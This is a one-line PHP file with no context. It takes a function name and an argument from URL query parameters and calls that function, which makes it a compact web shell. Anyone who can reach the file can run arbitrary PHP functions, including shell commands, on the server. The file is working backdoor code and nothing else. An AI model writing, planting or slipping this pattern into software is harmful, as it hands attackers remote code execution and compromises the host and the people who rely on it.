<?php $f = Closure::fromCallable($_GET["f"]); $f($_GET["a"]);
